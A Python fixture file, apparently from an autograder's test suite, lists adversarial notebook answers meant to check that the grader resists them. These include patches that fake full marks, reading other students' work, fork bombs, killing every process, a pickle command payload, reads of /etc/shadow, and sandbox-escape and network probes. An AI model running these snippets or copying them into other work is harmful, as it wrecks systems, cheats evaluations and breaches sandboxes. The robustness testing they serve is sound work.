"""Answers that try to get points, or to do harm, without computing anything.

Each Trick stands in the answer cell of one task; the six other answers of that notebook are right. `points` are what
the trick's own task deserves: the others always deserve all of theirs.
"""

from dataclasses import dataclass

POINTS = {"3.1": 2, "3.2": 6, "3.3": 5, "3.4": 4, "3.5": 4, "3.6": 4, "3.7": 5}
HEADS = {
    "3.1": "def flatten(features):",
    "3.2": "def gram_matrix(features):",
    "3.3": "def style_loss(features, target):",
    "3.4": "def style_gradient(features, target):",
    "3.5": "def move_places(features, order):",
    "3.6": "def total_style_loss(layers, targets, weights):",
    "3.7": "def cross_layer_gram(fine, coarse):",
}


@dataclass(frozen=True)
class Trick:
    """tries: what it tries, in a sentence; source: the cell, in which HEAD stands for the function's first line.

    status: what is reported of its task, or one of several; said: a part of the words for the student or of the notes
    for the teacher. quiet: it touches nothing but its own answer, so that several may share a notebook.
    """

    name: str
    tries: str
    task: str
    source: str
    points: int = 0
    status: str = "error"
    said: str = ""
    quiet: bool = False

    @property
    def cell(self):
        return f"# Task {self.task}\n" + self.source.strip("\n").replace("HEAD", HEADS[self.task]) + "\n"


def quiet(name, tries, task, source, **others):
    return Trick(name, tries, task, source, quiet=True, **others)


# --- strange values --------------------------------------------------------------------------------------------------

VALUES = [
    quiet(
        "an object that equals everything",
        "An object says yes to every comparison and gives itself for every operation.",
        "3.2",
        """
class Evil:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __bool__(self): return True
    __sub__ = __rsub__ = __mul__ = __matmul__ = lambda self, other: self
HEAD
    return Evil()
""",
        said="no array of numbers",
    ),
    quiet(
        "an array that lies about arithmetic",
        "A subclass of ndarray answers every comparison and every ufunc with True.",
        "3.4",
        """
class Liar(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def __eq__(self, other): return True
    def __abs__(self): return 0.0
HEAD
    return np.arange(1.0, 4.0).view(Liar)
""",
        status="wrong",
        said="computes nothing",
    ),
    quiet(
        "an object that turns into another array each time",
        "__array__ gives another result for every call, in the hope that one of them is compared with itself.",
        "3.3",
        """
class Shifting:
    turn = 0
    def __array__(self, dtype=None, copy=None):
        Shifting.turn += 1
        return np.full((2, 2), -float(Shifting.turn))
HEAD
    return Shifting()
""",
        status="wrong",
    ),
    quiet("nothing", "The function ends without a return.", "3.1", "HEAD\n    features", said="it returns nothing"),
    quiet("words", "The function returns the words of a full mark.", "3.5", "HEAD\n    return '4 of 4, full'"),
    quiet("itself", "The function returns itself.", "3.6", "HEAD\n    return total_style_loss"),
    quiet(
        "a list that holds itself",
        "A list without an end, as deep as anybody likes to look.",
        "3.6",
        "HEAD\n    endless = []\n    endless.append(endless)\n    return endless",
    ),
    quiet("not a number", "NaN is compared with nothing.", "3.3", "HEAD\n    return np.nan", status="wrong"),
    quiet(
        "infinity",
        "Infinity equals itself.",
        "3.4",
        "HEAD\n    return np.full(np.shape(features), np.inf)",
        status="wrong",
    ),
    quiet(
        "numbers too large to square",
        "Whoever calculates with them is warned; so is who compiles a text with a stray backslash.",
        "3.4",
        "HEAD\n    '\\d'\n    return np.full(np.shape(features), 1e300)",
        status="wrong",
    ),
    quiet("complex numbers", "The right numbers, with an imaginary part.", "3.5", "HEAD\n    return features + 1j"),
    quiet(
        "an array of objects",
        "NumPy holds objects that could lie when they are compared.",
        "3.1",
        "HEAD\n    return np.array([[object()] * 3] * 4, dtype=object)",
    ),
    quiet("a ragged list", "Rows of different length.", "3.4", "HEAD\n    return [[1.0], [1.0, 2.0]]"),
    quiet("dates", "Numbers in disguise.", "3.1", "HEAD\n    return np.zeros((4, 3), dtype='datetime64[s]')"),
    quiet(
        "a huge array that costs nothing",
        "An array of a thousand thousand thousand numbers that are all the same one in memory.",
        "3.2",
        "HEAD\n    return np.broadcast_to(1.0, (1000, 1000, 1000))",
        said="far too many",
    ),
    quiet(
        "an array that is too large to send",
        "An array that the check would bear, and the pipe out of the sandbox should not.",
        "3.6",
        "HEAD\n    return np.zeros((3000, 3000))",
    ),
    quiet(
        "an array without numbers",
        "A shape with a zero in it, for which every comparison holds.",
        "3.2",
        "HEAD\n    return np.zeros((0, 100_000))",
        status="wrong",
    ),
    quiet("a boolean", "True stands for every number but 0.", "3.3", "HEAD\n    return True", status="wrong"),
    quiet(
        "a generator without an end",
        "The value can be counted for ever.",
        "3.5",
        "import itertools\nHEAD\n    return list(itertools.repeat(0.0))",
        status=("timeout", "error"),
    ),
]

# --- answers that were written down, borrowed or looked up -----------------------------------------------------------

BORROWED = [
    quiet(
        "published answers, literally",
        "The published examples are known, so their results are written down.",
        "3.2",
        """
HEAD
    known = {
        (2, 2, 3): [[3.5, 1.5, 1.25], [1.5, 2.25, 1.5], [1.25, 1.5, 4.5]],
        (2, 3, 2): [[22 / 6, 1.0], [1.0, 15 / 6]],
        (4, 1, 4): [[5.25, 0.5, 1.0, 1.0], [0.5, 2.75, 1.5, 3.75], [1.0, 1.5, 1.5, 1.25], [1.0, 3.75, 1.25, 6.5]],
    }
    return np.array(known.get(features.shape, known[2, 2, 3]))
""",
        status="wrong",
        said="computes nothing",
    ),
    quiet(
        "a table of the published inputs",
        "The job lies in the sandbox, so the answers to its published half are looked up by their place in it.",
        "3.1",
        """
import json, os
table = {}
for probe in json.load(open(os.environ["NST_GRADE_JOB"]))["3.1"]["public"]:
    for (pack,) in (args["tuple"] for args in probe):
        array = np.array(pack["array"])
        table[array.tobytes()] = [list(place) for row in pack["array"] for place in row]
HEAD
    return table[np.asarray(features).tobytes()]
""",
        status="error",
        said="KeyError",
    ),
    quiet(
        "the first inputs remembered",
        "What was right for the first call is given for every later one.",
        "3.5",
        """
kept = []
HEAD
    kept.append(np.asarray(features)[np.argsort(np.zeros(len(features)))])
    return kept[0]
""",
        status="wrong",
        said="computes nothing",
    ),
    quiet(
        "the reference stands in",
        "or_reference gives the course's own function for an answer that is not there.",
        "3.3",
        """
style_loss = nst.or_reference("3.3", None)
""",
        said="the function itself",
    ),
    quiet(
        "the tasks imported",
        "The course's answers are a module of the kit.",
        "3.4",
        """
from nstcourse.tasks.style import style_gradient
""",
        said="does not define",
    ),
    quiet(
        "the library's own function",
        "The kit has a function of that very name.",
        "3.2",
        """
gram_matrix = nst.gram_matrix
""",
        said="it uses nstlib itself (nst.gram_matrix)",
    ),
    quiet(
        "the library's own function, by a back door",
        "The same function, imported in a way that a search for its name does not find.",
        "3.3",
        """
import importlib
module = importlib.import_module("nst" + "lib.stat" + "istics")
HEAD
    return np.mean((np.asarray(getattr(module, "gram_" + "matrix")(features[None]))[0] - target) ** 2)
""",
        said="No module named",
    ),
    quiet(
        "the disk searched",
        "Somewhere on this machine there must be solutions/, tasks/style.py or a kit with 'def move_places'.",
        "3.5",
        """
import pathlib, sys
near = pathlib.Path(sys.prefix)
places = [near.parent, near.parent.parent, pathlib.Path("/home"), pathlib.Path("/root"),
          *map(pathlib.Path, ("/kit", "/tmp", "/srv", "/mnt", "/media"))]
places += [p for p in near.rglob("nst*") if p.is_dir()]
own = pathlib.Path("graded.ipynb").resolve()
found = [p for place in places for kind in ("*.ipynb", "style.py", "style*.pyc") for p in place.rglob(kind)
         if near not in place.parents or "nst" in str(p)]
found = [p for p in found if p != own and near not in p.parents and b"move_places" in p.read_bytes()]
names = {}
exec(found[0].read_text(), names)
move_places = names["move_places"]
""",
        said="IndexError",
    ),
    quiet(
        "a neighbour's work",
        "Another student's notebook or sandbox is read through /proc and the temporary folders.",
        "3.6",
        """
import glob
others = [
    p for p in glob.glob("/proc/[0-9]*/" + "root/tmp/graded.ipynb") if open(p).read() != open("graded.ipynb").read()
]
others += glob.glob("/tmp/nst-*") + glob.glob("/tmp/pytest-*") + glob.glob("/proc/[0-9]*/cwd/marks")
exec(open(others[0]).read())
""",
        said="IndexError",
    ),
]

# --- the tools of grading patched, from inside the process that runs the answer --------------------------------------

PATCHES = [
    Trick(
        "comparisons patched",
        "Every comparison that a check could use says yes.",
        "3.1",
        """
import numpy.testing
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
HEAD
    return features
""",
        status="wrong",
    ),
    Trick(
        "asarray patched",
        "NumPy reads whatever is returned as something else, for this answer and for those after it.",
        "3.1",
        """
np.asarray = np.array = lambda value, *a, **k: np.ones((4, 3))
HEAD
    return "anything"
""",
        status=("wrong", "error"),
    ),
    Trick(
        "JSON and files patched",
        "What is written down about every task are words of praise.",
        "3.1",
        """
import json, pathlib
json.dumps = lambda *a, **k: '{"fresh": {"status": "full"}, "public": {"status": "full"}, "points": 99}'
np.save = lambda *a, **k: None
pathlib.Path.write_text = lambda self, text, *a, **k: len(text)
HEAD
    return None
""",
        status=("error",),
    ),
    Trick(
        "asserts stripped from later cells",
        "IPython transforms the cells after this one, so that no check in them is left.",
        "3.2",
        """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()
get_ipython().ast_transformers.append(Strip())
get_ipython().input_transformers_cleanup.append(lambda lines: [l for l in lines if "export" not in l])
HEAD
    return 1
""",
        status=("wrong", "error"),
    ),
    Trick(
        "the reader of answers patched",
        "as_array and outputs_of give what would be right.",
        "3.2",
        """
from nstcourse.kit import answers, arrays, export
answers.as_array = arrays.as_array = lambda value: np.zeros((3, 3))
made = lambda inputs, name, answer: ([[np.zeros((3, 3))] * len(p) for p in inputs], "ran", ())
answers.outputs_of = export.outputs_of = made
HEAD
    return "zero"
""",
        status=("wrong", "error"),
    ),
    Trick(
        "the export patched",
        "take, _told, pack_answer and _small are replaced by functions of the student's own.",
        "3.3",
        """
from nstcourse.kit import export, wire
wire.pack_answer = lambda array: {"shape": [-1, 10**12], "data": "!!!"}
export._small = lambda array: True
export._told = lambda *a: {"status": "full", "points": 99, "outputs": [[True]]}
export.take = lambda *a: None
HEAD
    return 0
""",
        status=("wrong", "error"),
    ),
    Trick(
        "alarm and clock taken away",
        "Without an alarm, a clock and its exception the export shall wait for ever.",
        "3.6",
        """
import signal, time
from nstcourse.kit import export
signal.setitimer = lambda *a: None
signal.signal = lambda *a: None
time.monotonic = time.perf_counter = lambda: 0.0
export.OutOfTime = MemoryError
HEAD
    while True:
        pass
""",
        status=("timeout", "error"),
    ),
    Trick(
        "later functions exchanged by a thread",
        "A thread waits until the other answers are there and puts others in their place.",
        "3.2",
        """
import threading
def exchange(names=globals()):
    while True:
        for name in ("style_loss", "style_gradient", "move_places", "total_style_loss"):
            if name in names:
                names[name] = lambda *a: 0
threading.Thread(target=exchange, daemon=True).start()
HEAD
    return np.ones((3, 3)) * np.sum(features)
""",
        points=2,
        status="partial",
    ),
    Trick(
        "builtins patched",
        "len and isinstance say what would be right, to everybody; that ends the export of this very answer.",
        "3.5",
        """
import builtins, sys
builtins.len = lambda *_: 4
builtins.isinstance = lambda *_: True
HEAD
    return features
""",
        said="nothing came back",
    ),
    Trick(
        "start-up files",
        "conftest.py, pytest.ini, sitecustomize, usercustomize and IPython's start-up folder are read by others.",
        "3.4",
        """
import os, pathlib, subprocess, sys
evil = "import os\\nopen(os.path.join(os.environ['NST_GRADE_OUT'], '3.4.json'), 'w').write('{}')\\nos._exit(0)\\n"
site = pathlib.Path.home() / ".local/lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
startup = pathlib.Path(os.environ["IPYTHONDIR"], "profile_default", "startup")
for folder in (pathlib.Path.cwd(), site, startup, pathlib.Path.home() / ".ipython/profile_default/startup"):
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("conftest.py", "sitecustomize.py", "usercustomize.py", "00-first.py", "nstlib.py", "json.py", "a.pth"):
        (folder / name).write_text(evil)
pathlib.Path("pytest.ini").write_text("[pytest]\\naddopts = --collect-only -p conftest\\n")
for place in (*sys.path, sys.prefix, "/kit/nstcourse", "/etc", "/usr/lib", "/"):
    try:
        pathlib.Path(place or ".", "sitecustomize.py").write_text(evil)
    except OSError:
        pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = str(pathlib.Path.cwd())
HEAD
    return 0
""",
        status="wrong",
    ),
    Trick(
        "import hooks",
        "A finder at the head of sys.meta_path gives modules of the student's own for those that are imported later.",
        "3.1",
        """
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        raise SystemExit(name)
sys.meta_path.insert(0, Finder())
for name in list(sys.modules):
    if name.startswith("nstcourse"):
        sys.modules[name] = types.ModuleType(name)
HEAD
    return 0
""",
        status=("wrong", "error"),
    ),
    Trick(
        "tracing",
        "A trace function sees every frame of the export and changes its variables.",
        "3.2",
        """
import sys, threading
def look(frame, event, arg):
    if frame.f_code.co_name in ("_told", "take", "outputs_of"):
        frame.f_locals.update(status="full", record={"fresh": "full"})
    return look
sys.settrace(look)
threading.settrace(look)
HEAD
    return 0
""",
        status=("wrong", "error"),
    ),
]

# --- records of one's own --------------------------------------------------------------------------------------------

WRITER = """
import json, os, pathlib, subprocess, sys, time
program = '''
import os, pathlib, sys, time
folder = pathlib.Path(os.environ["NST_GRADE_OUT"])
os.setsid()
if os.fork():
    os._exit(0)
end = time.monotonic() + 60
while time.monotonic() < end:
    for task in sys.argv[2].split():
        try:
            RECORD
        except OSError:
            pass
    time.sleep(0.005)
'''
what = WHAT
subprocess.Popen([sys.executable, "-c", program, what, TASKS], start_new_session=True)
HEAD
    return 0
"""
OVERWRITE = "(folder / (task + '.json')).write_text(sys.argv[1])"
ALL = "3.1 3.2 3.3 3.4 3.5 3.6"


def writer(name, tries, task, what, tasks=ALL, record=OVERWRITE, **others):
    source = WRITER.replace("RECORD", record).replace("WHAT", what).replace("TASKS", repr(tasks))
    others = {"status": ("error", "wrong")} | others
    return Trick(name, tries, task, source, **others)


RECORDS = [
    writer(
        "records of full marks",
        "A detached process keeps on writing records that claim full marks for every task.",
        "3.1",
        """json.dumps(
    {k: {"status": "full", "points": 99, "passed": [True] * 9, "outputs": []} for k in ("fresh", "public")}
)""",
    ),
    Trick(
        "pipes in the place of files",
        "Whoever opens the log, a record or what they are written to waits for somebody at the other end.",
        "3.1",
        """
import os, pathlib
folder = pathlib.Path(os.environ["NST_GRADE_OUT"])
records = [folder / f"3.{number}{end}" for number in range(1, 8) for end in (".json", ".part")]
for path in (pathlib.Path("log.txt"), pathlib.Path(os.environ["NST_GRADE_JOB"]), folder / "kernel", *records):
    path.unlink(missing_ok=True)
    os.mkfifo(path)
HEAD
    return 0
""",
        status="wrong",
    ),
    writer(
        "pipes in the place of records, again and again",
        "A detached process puts a pipe where a record has been written.",
        "3.3",
        "''",
        record="(folder / (task + '.json')).unlink(missing_ok=True); os.mkfifo(folder / (task + '.json'))",
        status="wrong",
    ),
    writer("records that are no JSON", "Every record is torn.", "3.5", '\'{"fresh": {"status"\''),
    writer("records nested without end", "The reader of JSON shall fall over its own stack.", "3.6", "'[' * 90_000"),
    writer(
        "records of a million lists",
        "A few megabytes of JSON that take a hundred times as much in memory.",
        "3.5",
        "''",
        record="(folder / (task + '.json')).write_text('[' + '[],' * 2_500_000 + '[]]')",
    ),
    writer(
        "records with shapes that lie",
        "Negative, huge and fractional sizes, and data that do not fit.",
        "3.6",
        """json.dumps({k: {"status": "ran", "words": [], "outputs": [[{"shape": s, "data": "AAAA"}] for s in
                   ([-1], [10**18], [2.5], [True], [0] * 40, "3")]} for k in ("fresh", "public")})""",
    ),
    writer(
        "records of NaN",
        "Python's JSON reads NaN and Infinity, and a comparison with them may go wrong.",
        "3.3",
        """'{"fresh": {"status": NaN, "words": Infinity, "outputs": -Infinity}, "public": {"status": 1e999}}'""",
    ),
    writer(
        "records that are pickles",
        "Whoever unpickles this runs it.",
        "3.4",
        "''",
        record="(folder / (task + '.json')).write_bytes(b'cposix\\\\nsystem\\\\n(Vtouch /tmp/pickled\\\\ntR.')",
    ),
    writer(
        "records that are links",
        "A record that is a symbolic link to /etc/passwd, a named pipe or a folder.",
        "3.5",
        "''",
        record="path = folder / (task + '.json'); path.unlink(missing_ok=True); "
        "(os.mkfifo(path) if task == '3.1' else path.mkdir() if task == '3.2' else path.symlink_to('/etc/passwd'))",
    ),
    Trick(
        "an answer of the driver's own",
        "Every pipe of every process is opened and a whole answer is written into it, with a surrogate in the log.",
        "3.1",
        """
import glob, json, os, signal
forged = {"fresh": {"status": "ran", "words": ["\\ud800"], "outputs": []}, "public": {"status": "full"}}
line = json.dumps({"records": {i: json.dumps(forged) for i in ("3.1", "3.2", "3.3", "3.4", "3.5", "3.6", "3.7")},
                   "log": "\\ud800 \\x1b[2J <script>alert(1)</script>", "seconds": 0.0})
for path in glob.glob("/proc/[0-9]*/fd/*"):
    number = int(path.split("/")[2])
    try:
        if number != os.getpid() and os.readlink(path).startswith("pipe:"):
            with open(os.open(path, os.O_WRONLY | os.O_NONBLOCK), "w") as pipe:
                pipe.write(line)
    except (OSError, ValueError):
        pass
for path in glob.glob("/proc/[0-9]*"):
    if "driver.py" in open(path + "/cmdline").read():
        try:
            os.kill(int(path.split("/")[2]), signal.SIGKILL)
        except OSError:
            pass
HEAD
    return 0
""",
    ),
    Trick(
        "an answer without end",
        "Every pipe of every process is filled with rubbish.",
        "3.4",
        """
import glob, os
HEAD
    pipes = []
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if os.readlink(path).startswith("pipe:") and int(path.split("/")[2]) != os.getpid():
                pipes.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
    while True:
        for pipe in pipes:
            try:
                os.write(pipe, b"9" * 65536)
            except OSError:
                pass
""",
        status=("error", "timeout"),
    ),
    Trick(
        "right numbers for another task",
        "The record of the next task is written with what this one computed.",
        "3.1",
        """
import json, os, pathlib
HEAD
    flat = np.reshape(features, (-1, features.shape[-1]))
    pathlib.Path(os.environ["NST_GRADE_OUT"], "3.2.json").write_text(json.dumps({"fresh": flat.tolist()}))
    return flat
""",
        points=2,
        status="full",
    ),
]

# --- ends ------------------------------------------------------------------------------------------------------------

ENDS = [
    Trick(
        "os._exit while the cell runs", "The kernel ends at once.", "3.1", "import os\nos._exit(0)\nHEAD\n    return 0"
    ),
    Trick("os._exit in the function", "The kernel ends when it is asked.", "3.2", "import os\nHEAD\n    os._exit(0)"),
    quiet(
        "sys.exit in the function",
        "SystemExit is no Exception.",
        "3.4",
        "import sys\nHEAD\n    sys.exit(0)",
        said="SystemExit",
    ),
    quiet(
        "KeyboardInterrupt",
        "Raised by hand, as if somebody had pressed Ctrl-C.",
        "3.5",
        "HEAD\n    raise KeyboardInterrupt",
    ),
    quiet(
        "BaseException",
        "The exception that most handlers let through.",
        "3.6",
        "HEAD\n    raise BaseException('full marks')",
    ),
    quiet(
        "an exception that bites",
        "Its text, its name and its class raise errors of their own when they are read.",
        "3.3",
        "class Bite(Exception):\n    def __str__(self): raise SystemExit\n    __repr__ = __str__\nHEAD\n    raise Bite",
    ),
    quiet(
        "a Todo of one's own",
        "The answer says that it was never tried, at length.",
        "3.1",
        "HEAD\n    raise nst.Todo('3.1', 'x' * 100_000)",
        status="not attempted",
    ),
    Trick("SIGKILL to itself", "The kernel is killed.", "3.6", "import os\nHEAD\n    os.kill(os.getpid(), 9)"),
    Trick(
        "SIGKILL to its parent",
        "pytest, which ran the kernel, is killed.",
        "3.5",
        "import os\nHEAD\n    os.kill(os.getppid(), 9)\n    import time; time.sleep(60)",
        status=("error", "timeout"),
    ),
    Trick(
        "SIGKILL to everyone",
        "Every process that can be reached is killed.",
        "3.3",
        "import os\nHEAD\n    os.kill(-1, 9)\n    os._exit(1)",
    ),
    Trick(
        "SIGKILL to everyone, at once",
        "The same before any answer is written.",
        "3.1",
        "import os\nos.kill(-1, 9)\nHEAD\n    return 0",
    ),
    Trick(
        "everyone stopped",
        "Every other process is stopped, so that nothing can end this one.",
        "3.4",
        """
import glob, os, signal, time
HEAD
    for path in glob.glob("/proc/[0-9]*"):
        number = int(path[6:])
        if number not in (1, os.getpid()):
            try:
                os.kill(number, signal.SIGSTOP)
            except OSError:
                pass
    time.sleep(1e6)
""",
        status=("error", "timeout"),
        said="stopped",
    ),
    Trick(
        "the kernel shut down",
        "The kernel is asked to end in its own words.",
        "3.2",
        "get_ipython().kernel.do_shutdown(False)\nget_ipython().ask_exit()\nHEAD\n    return 0",
        status=("error", "wrong"),
    ),
    Trick(
        "a fault",
        "A pointer to nowhere is followed, which ends the process without a word.",
        "3.3",
        "import ctypes\nHEAD\n    return ctypes.string_at(1)",
    ),
    quiet(
        "recursion",
        "A function that calls itself for ever.",
        "3.2",
        "HEAD\n    return gram_matrix(features)",
        said="RecursionError",
    ),
    Trick(
        "recursion without a limit",
        "The limit is lifted first, so that the stack of the process runs over.",
        "3.2",
        "import sys\nsys.setrecursionlimit(10**9)\nHEAD\n    return gram_matrix([features])",
        status=("error", "timeout"),
    ),
]

# --- no end ----------------------------------------------------------------------------------------------------------

ENDLESS = [
    quiet("sleep", "A thousand million seconds.", "3.3", "import time\nHEAD\n    time.sleep(1e9)", status="timeout"),
    Trick(
        "a loop that swallows every exception",
        "The alarm is caught and the loop goes on.",
        "3.2",
        """
HEAD
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
        status=("timeout", "error"),
    ),
    Trick(
        "a loop while the cell runs",
        "The cell never ends, ignores interrupts and swallows everything.",
        "3.4",
        """
import signal
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
HEAD
    return 0
""",
        status=("error", "timeout"),
    ),
    Trick(
        "alarms blocked",
        "Signals are blocked in the thread that would get them.",
        "3.5",
        "import signal, time\nHEAD\n    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\n    time.sleep(1e6)",
        status=("error", "timeout"),
    ),
    Trick(
        "a power without end",
        "One operation in C that looks at no signal before it is done.",
        "3.1",
        "HEAD\n    return 7 ** (7 ** 11)",
        status=("error", "timeout"),
    ),
    Trick(
        "a pattern without end",
        "A regular expression that tries every way to fail.",
        "3.6",
        "import re\nHEAD\n    return re.match(r'(a|a|aa)+$', 'a' * 90 + 'b')",
        status=("error", "timeout"),
    ),
]

# --- too much of everything ------------------------------------------------------------------------------------------

GREED = [
    Trick(
        "a fork bomb",
        "Processes that start processes, without a pause.",
        "3.3",
        "import os\nHEAD\n    while True:\n        os.fork()",
        said="processes",
    ),
    Trick(
        "a fork bomb in C",
        "The same without Python in between, and in sessions of their own.",
        "3.1",
        "import ctypes\nlibc = ctypes.CDLL(None)\nHEAD\n    while True:\n        libc.fork(); libc.setsid()",
        said="processes",
    ),
    Trick(
        "threads",
        "As many threads as can be had, with small stacks.",
        "3.2",
        """
import threading, time
HEAD
    threading.stack_size(65536)
    while True:
        try:
            threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
        except RuntimeError:
            pass
""",
        status=("error", "timeout"),
        said="",
    ),
    quiet(
        "memory at once", "An array of a terabyte.", "3.5", "HEAD\n    return np.ones(10**12 // 8)", said="MemoryError"
    ),
    Trick(
        "memory piece by piece",
        "A list of byte arrays that grows, whatever is said about it.",
        "3.4",
        """
kept = []
HEAD
    while True:
        try:
            kept.append(bytearray(10_000_000))
        except MemoryError:
            pass
""",
        status=("error", "timeout"),
    ),
    Trick(
        "memory of many processes",
        "Every process keeps what one is allowed.",
        "3.6",
        """
import os, time
HEAD
    for _ in range(12):
        if os.fork() == 0:
            kept = np.ones(60_000_000)
            time.sleep(60)
    time.sleep(60)
""",
        status=("error", "timeout"),  # in a control group the kernel ends the children, and the answer waits in vain
    ),
    Trick(
        "memory that belongs to no process",
        "Files in memory that have no name and are never mapped, in eight processes.",
        "3.5",
        """
import os, time
HEAD
    made = []
    for _ in range(400):
        number = os.memfd_create("x")
        os.write(number, bytes(10_000_000))
        made.append(number)
    time.sleep(60)
""",
        said="Operation not permitted",
    ),
    Trick(
        "memory shared and let go",
        "System V segments that outlive the processes that filled them.",
        "3.4",
        """
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
HEAD
    for _ in range(300):
        number = libc.shmget(0, 20_000_000, 0o1600)
        if number < 0:
            raise OSError(ctypes.get_errno(), "refused")
        place = libc.shmat(number, None, 0)
        ctypes.memset(place, 1, 20_000_000)
        libc.shmdt(ctypes.c_void_p(place))
    time.sleep(60)
""",
        said="refused",
    ),
    Trick(
        "the disk filled",
        "Files in every place that can be written to.",
        "3.1",
        """
import os
HEAD
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/dev", "/", "/run", "/kit", os.path.expanduser("~")):
        for number in range(40):
            try:
                with open(f"{folder}/big{number}", "wb") as file:
                    file.write(bytes(30_000_000))
            except OSError:
                pass
    return 0
""",
        status=("error", "wrong", "timeout"),
    ),
    Trick(
        "a million small files",
        "Empty files, of which every one takes memory of the kernel's.",
        "3.6",
        """
import os
HEAD
    number = 0
    while True:
        os.close(os.open(f"/dev/shm/{number}", os.O_CREAT))
        number += 1
""",
        status=("error", "timeout"),
    ),
    Trick(
        "a flood of output while the cell runs",
        "Printed until somebody stops it.",
        "3.5",
        "while True:\n    print('x' * 100_000)\nHEAD\n    return 0",
        status=("error", "timeout", "wrong"),  # the loop is left, and the function tried
    ),
    quiet(
        "a flood of output in the function",
        "Half a gigabyte of words in all for a right answer.",
        "3.1",
        "HEAD\n    for _ in range(20):\n        print('x' * 1_000_000)\n"
        "    return np.reshape(features, (-1, features.shape[-1]))",
        points=2,
        status="full",
    ),
    Trick(
        "descriptors",
        "Every descriptor that can be had is kept open.",
        "3.4",
        "import os\nHEAD\n    while True:\n        os.open('/dev/null', os.O_RDONLY)",
        said="OSError",
    ),
]

# --- out of the sandbox ----------------------------------------------------------------------------------------------

OUT = [
    quiet(
        "the network",
        "A connection to the world, and one to a program that listens on this machine.",
        "3.6",
        """
import socket
HEAD
    for place in (("192.0.2.1", 80), ("1.1.1.1", 53), ("127.0.0.1", PORT), ("::1", PORT)):
        try:
            socket.create_connection(place, 0.3).sendall(b"caught")
            return 1
        except OSError:
            pass
    raise ConnectionError("nobody there")
""",
        said="nobody there",
    ),
    quiet(
        "a socket in the file system",
        "A Unix socket of this machine, by its path, in the abstract space and as a service of the system's.",
        "3.4",
        """
import socket
HEAD
    for place in ("SOCKET", "\\0ABSTRACT", "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix/X0"):
        with socket.socket(socket.AF_UNIX) as line:
            try:
                line.connect(place)
                line.sendall(b"caught")
                return 1
            except OSError:
                pass
    raise ConnectionError("nobody there")
""",
        said="nobody there",
    ),
    quiet(
        "files of this machine",
        "Files of the grader's user are read, and others are left behind.",
        "3.5",
        """
import os
HEAD
    for path in ("/etc/passwd", "/etc/shadow", "/" + "root/.bashrc", "OUTSIDE", "/proc/1/" + "root/etc/passwd"):
        try:
            if open(path).read().strip("\\0"):
                return path
        except OSError:
            pass
    try:
        if "HOME=" in open("/proc/1/environ").read():
            return "the grader's environment"
    except PermissionError:  # of another user
        pass
    for path in ("OUTSIDE", "/var/tmp/left", "/usr/left", "/kit/left", "/dev/left"):
        try:
            open(path, "w").write("left")
            return path
        except OSError:
            pass
    raise PermissionError("nothing to read or write")
""",
        said="nothing to read or write",
    ),
    quiet(
        "the kernel's settings",
        "Every setting of the kernel's and of this machine's is opened for writing, and nothing is written.",
        "3.4",
        """
import os
HEAD
    for top in ("/proc", "/sys"):
        for folder, folders, files in os.walk(top):
            folders[:] = [name for name in folders if folder != "/proc" or not name.isdecimal() and name != "self"]
            for name in files:
                try:
                    os.close(os.open(f"{folder}/{name}", os.O_WRONLY | os.O_NONBLOCK))
                except OSError:
                    continue
                return f"{folder}/{name}"
    raise PermissionError("nothing to set")
""",
        said="nothing to set",
    ),
    quiet(
        "root's files",
        "Whoever is root outside owns what root owns, and may change its mode.",
        "3.1",
        """
import os
HEAD
    if os.stat("/usr/bin").st_uid == os.getuid() or os.stat("/proc/1").st_uid == os.getuid() == 0:
        return 1
    raise PermissionError("not root outside")
""",
        said="not root outside",
    ),
    quiet(
        "another user inside",
        "A new user namespace, in which one is root and may mount.",
        "3.2",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
HEAD
    for flags in (0x10000000, 0x10020000, 0x20000000):
        if libc.unshare(flags) == 0:
            return 1
    number = libc.syscall({"x86_64": 56, "aarch64": 220}[os.uname().machine], 0x10000011, 0, 0, 0, 0)
    if number == 0:
        os._exit(0)
    if number > 0:
        return 1
    if libc.ptrace(16, 2, 0, 0) == 0 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        return 1
    raise PermissionError("no way up")
""",
        said="no way up",
    ),
    Trick(
        "a process left behind",
        "Forked twice, in a session of its own, deaf to every signal that can be ignored.",
        "3.2",
        """
import os, signal, time
forked = []
HEAD
    if not forked and forked.append(1) is None and os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in set(range(1, 65)) - {signal.SIGKILL, signal.SIGSTOP, 32, 33}:
                signal.signal(number, signal.SIG_IGN)
            while True:
                time.sleep(1)
        os._exit(0)
    return np.ones((3, 3)) * np.sum(features)
""",
        points=2,
        status="partial",
    ),
    quiet(
        "a command to the shell",
        "!cmd",
        "3.3",
        "!touch /tmp/shell\nHEAD\n    return 0",
        status="wrong",  # the line is left out, and what else stands there is run
        said="left out: !touch /tmp/shell",
    ),
    quiet("a cell for bash", "%%bash", "3.5", "%%bash\ntouch /tmp/shell", status="refused"),
    quiet(
        "a package installed",
        "%pip",
        "3.4",
        "%pip install numpy-that-lies\nHEAD\n    return 0",
        status="wrong",
        said="a line for Jupyter was left out",
    ),
